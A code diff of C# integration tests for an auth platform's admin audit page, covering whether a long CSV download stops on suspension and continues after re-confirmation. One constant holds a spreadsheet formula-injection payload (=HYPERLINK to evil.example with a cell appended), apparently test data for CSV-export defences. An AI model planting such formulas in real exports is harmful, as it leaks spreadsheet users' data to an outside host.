@@ -13,6 +13,7 @@ namespace AuthPlatform.IntegrationTests.Admin;
 /// <summary>Reading the audit by its page, and taking it away.</summary>
 public sealed class AuditPageTests(AuthPlatformFixture platform)
 {
+    private const int MoreThanAreReadAtOnce = 5001;
     private const string Formula = "=HYPERLINK(\"http://evil.example/?\"&A1)";
 
     private static CancellationToken Cancellation => TestContext.Current.CancellationToken;
@@ -113,32 +114,64 @@ public sealed class AuditPageTests(AuthPlatformFixture platform)
         var account = await AdminAccount.CreateAsync(platform, Cancellation, AdministratorRoles.Auditor);
         using var browser = await AdminBrowser.OpenAsync(platform, Cancellation);
         await account.SignInAsync(browser, Cancellation);
-        await using var database = await platform.OpenAuthDatabaseAsync(Cancellation);
-        // One more than are read at once; and more bytes than lie on the way.
-        await database.Database.ExecuteSqlAsync(
-            $"""
-            INSERT INTO audit_events (occurred_at, id, application_id, client_id, kind, details)
-            SELECT now(), uuidv7(), a.id, a.client_id, 'issued', jsonb_build_object('filler', repeat('x', 2000)) FROM applications a CROSS JOIN generate_series(1, 5001) WHERE a.client_id = {application.ClientId}
-            """,
-            Cancellation);
-        using var handler = new SocketsHttpHandler { UseCookies = false, ConnectCallback = ConnectNarrowlyAsync };
-        using var http = new HttpClient(handler) { BaseAddress = platform.App.GetEndpoint(ResourceNames.AdminWeb) };
-        using var request = new HttpRequestMessage(HttpMethod.Get, $"/admin/audit?handler=csv&app={application.ClientId}");
-        request.Headers.Add("Cookie", string.Join("; ", browser.Cookies.Select(cookie => $"{cookie.Key}={cookie.Value}")));
+        using var http = ConnectNarrowly();
+        using var response = await BeginLongDownloadAsync(http, browser, application);
 
-        using var response = await http.SendAsync(request, HttpCompletionOption.ResponseHeadersRead, Cancellation);
+        await using var database = await platform.OpenAuthDatabaseAsync(Cancellation);
         await database.Administrators.Where(a => a.Id == account.Id).ExecuteUpdateAsync(set => set.SetProperty(a => a.SuspendedAt, TimeProvider.System.GetUtcNow()), Cancellation);
 
-        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
         await using var file = await response.Content.ReadAsStreamAsync(Cancellation);
         await Assert.ThrowsAnyAsync<IOException>(() => file.CopyToAsync(Stream.Null, Cancellation));
     }
 
-    private static async ValueTask<Stream> ConnectNarrowlyAsync(SocketsHttpConnectionContext context, CancellationToken cancellationToken)
+    /// <summary>The session goes on, under another id.</summary>
+    [Fact]
+    public async Task Download_BySomebodyWhoProvesAgainMeanwhile_IsWhole()
     {
-        var socket = new Socket(SocketType.Stream, ProtocolType.Tcp) { ReceiveBufferSize = 16 * 1024 };
-        await socket.ConnectAsync(context.DnsEndPoint, cancellationToken);
-        return new NetworkStream(socket, ownsSocket: true);
+        var application = await platform.CreateApplicationAsync(_ => { }, Cancellation);
+        var account = await AdminAccount.CreateAsync(platform, Cancellation, AdministratorRoles.Auditor);
+        using var browser = await AdminBrowser.OpenAsync(platform, Cancellation);
+        await account.SignInAsync(browser, Cancellation);
+        using var http = ConnectNarrowly();
+        using var response = await BeginLongDownloadAsync(http, browser, application);
+
+        var confirmed = await browser.FillAsync("/admin/account/confirm", Cancellation, ("Code", account.NextCode()));
+
+        Assert.Equal("/admin/", confirmed.Location);
+        var file = await response.Content.ReadAsStringAsync(Cancellation);
+        Assert.Equal(MoreThanAreReadAtOnce, Regex.Count(file, "filler"));
+    }
+
+    private HttpClient ConnectNarrowly() => new(new SocketsHttpHandler
+    {
+        UseCookies = false,
+        ConnectCallback = async (context, cancellationToken) =>
+        {
+            var socket = new Socket(SocketType.Stream, ProtocolType.Tcp) { ReceiveBufferSize = 16 * 1024 };
+            await socket.ConnectAsync(context.DnsEndPoint, cancellationToken);
+            return new NetworkStream(socket, ownsSocket: true);
+        },
+    })
+    {
+        BaseAddress = platform.App.GetEndpoint(ResourceNames.AdminWeb),
+    };
+
+    /// <summary>Of more bytes than lie on the way: the rest is read when they are taken.</summary>
+    private async Task<HttpResponseMessage> BeginLongDownloadAsync(HttpClient http, AdminBrowser browser, TestApplication application)
+    {
+        await using var database = await platform.OpenAuthDatabaseAsync(Cancellation);
+        await database.Database.ExecuteSqlAsync(
+            $"""
+            INSERT INTO audit_events (occurred_at, id, application_id, client_id, kind, details)
+            SELECT now(), uuidv7(), a.id, a.client_id, 'issued', jsonb_build_object('filler', repeat('x', 2000))
+            FROM applications a CROSS JOIN generate_series(1, {MoreThanAreReadAtOnce}) WHERE a.client_id = {application.ClientId}
+            """,
+            Cancellation);
+        using var request = new HttpRequestMessage(HttpMethod.Get, $"/admin/audit?handler=csv&app={application.ClientId}");
+        request.Headers.Add("Cookie", string.Join("; ", browser.Cookies.Select(cookie => $"{cookie.Key}={cookie.Value}")));
+        var response = await http.SendAsync(request, HttpCompletionOption.ResponseHeadersRead, Cancellation);
+        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
+        return response;
     }
 
     private static List<string> Users(AdminPage page) => [.. Regex.Matches(page.Html, """href="/admin/sessions\?user=[^"]*">([^<]+)</a>""").Select(m => WebUtility.HtmlDecode(m.Groups[1].Value))];
